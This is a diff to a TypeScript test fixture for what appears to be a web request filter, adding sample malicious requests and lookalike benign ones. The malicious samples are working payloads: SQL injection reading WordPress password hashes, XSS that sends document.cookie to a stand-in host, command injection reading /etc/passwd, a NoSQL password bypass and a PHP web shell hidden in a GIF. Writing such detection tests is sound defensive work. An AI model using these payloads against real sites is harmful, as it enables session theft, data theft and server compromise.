@@ -5,6 +5,9 @@ const get = (target: string) =>
 const post = (body: string, type = 'application/x-www-form-urlencoded') =>
   `POST /contact HTTP/1.1\nHost: shop.example\nContent-Type: ${type}\n\n${body}`;
 
+const manage = (body: string) =>
+  `POST /admin/pages/5 HTTP/1.1\nHost: shop.example\nContent-Type: application/x-www-form-urlencoded\n\n_token=a&${body}`;
+
 export const MALICIOUS_REQUESTS: Named = {
   'SQL: union': get("/?id=-1'%20UNION%20ALL%20SELECT%201,user_pass,3%20FROM%20wp_users--%20-"),
   'SQL: union behind comments': get('/?id=1/**/uNiOn/*x*/(select(1),2,3)'),
@@ -53,11 +56,66 @@ export const MALICIOUS_REQUESTS: Named = {
   'PHP in a picture':
     'POST /upload HTTP/1.1\nHost: shop.example\nContent-Type: multipart/form-data; boundary=b7\n\n--b7\n' +
     'Content-Disposition: form-data; name="a"; filename="a.gif"\nContent-Type: image/gif\n\nGIF89a\u0001\u0002<?php system($_GET[0]);\n--b7--',
+  'SQL: in a document in a field': post('filter={"sort":"name","id":"1\' or \'1\'=\'1"}'),
+  'SQL: behind a space in the target': get('/?id=1 union select 1,2,user() from mysql.user--'),
+  'SQL: in an element': post("<?xml version=\"1.0\"?><a><id>1' or<!-- --> '1'='1</id></a>", 'text/xml'),
+  'XSS: in a document in a cookie':
+    'GET / HTTP/1.1\nCookie: a=%7B%22n%22%3A%22%3Cscript%3Ealert(1)%3C%2Fscript%3E%22%7D\n\n',
+  'XSS: in an element': post(
+    '<?xml version="1.0"?><a><t><![CDATA[<img src=x onerror=alert(1)>]]></t></a>',
+    'text/xml',
+  ),
+  'XSS: in the name of a condition': get('/?filters[<script>alert(1)</script>]=1'),
+  'XSS: saved by an administrator': manage(
+    "body=<p>Hi</p><script>new Image().src='//a.example/'%2bdocument.cookie</script>",
+  ),
+  'XSS: a handler that seems ordinary': post(
+    'text=<b onclick="init();location=\'//a.example/\'%2bdocument.cookie">x</b>',
+  ),
+  'command: sent by an administrator': manage('host=127.0.0.1;cat /etc/passwd'),
+  'command: beside a description of containers': post(
+    '{"apiVersion":"v1","kind":"Pod","host":"127.0.0.1;cat /etc/passwd"}',
+    'application/json',
+  ),
+  'SQL: to a place for logs': 'POST /_bulk HTTP/1.1\nHost: a.example\n\nid=1 union select 1,2,3--',
+  'NoSQL: a password among conditions': post('{"filters":{"password":{"$gt":""}}}', 'application/json'),
   'two ends of one message':
     'POST / HTTP/1.1\nHost: a.example\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\n',
 };
 
 export const CLEAN_REQUESTS: Named = {
+  'a document in a field': post(
+    'cart={"items":[{"name":"O\'Neill (2-pack)","options":"or"}],"note":"it\'s"}',
+  ),
+  'a document in a text of a document': post(
+    '{"posts":[{"lexical":"{\\"text\\":\\"it\'s or\\"}"}]}',
+    'application/json',
+  ),
+  'a space in the target': get("/people?query=name=='Anna*';city=in=(Paris,'New York')"),
+  'conditions of a list': get('/api/products?filters[$and][0][name][$containsi]=lamp'),
+  'conditions of a search': post('{"filters":{"$and":[{"price":{"$gte":10}}]}}', 'application/json'),
+  'elements with texts': post(
+    '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>' +
+      "<filter>Status = 'Open' AND Total &gt; 100</filter><note><![CDATA[<b>Tom & Jerry's</b>]]></note></s:Body></s:Envelope>",
+    'text/xml',
+  ),
+  'a table': post("date;time;name\n2025-11-01;10:00;Smith & Sons; who's\n", 'text/csv'),
+  'a calendar': post('BEGIN:VCALENDAR\nSUMMARY:Tea\nLOCATION:Garden\nEND:VCALENDAR\n', 'text/calendar'),
+  'an ordinary handler': post('body=<p>Hi</p><a href="/a" onclick="return track(this)">a</a>'),
+  'a page that an administrator saves': manage(
+    'body=<p>Hi</p><script>window.dataLayer=window.dataLayer||[];</script><a href="javascript:void(0)">a</a>',
+  ),
+  'lines of a log': post(
+    '{"@timestamp":"2025-11-01T10:00:00Z","level":"warn","message":"blocked /?id=1\' union select 1,2-- -"}',
+    'application/json',
+  ),
+  'a statement for an interface that takes one': get(
+    "/services/data/v60.0/query?q=SELECT+Id+FROM+Account+WHERE+Name='x'",
+  ),
+  'containers with commands': post(
+    '{"apiVersion":"v1","kind":"Pod","spec":{"containers":[{"command":["/bin/sh","-c","sleep 2; exec /app/run"]}]}}',
+    'application/json',
+  ),
   'a picture in a text format':
     'POST /upload HTTP/1.1\nHost: shop.example\nContent-Type: multipart/form-data; boundary=b7\n\n--b7\n' +
     'Content-Disposition: form-data; name="logo"; filename="logo.svg"\nContent-Type: image/svg+xml\n\n' +
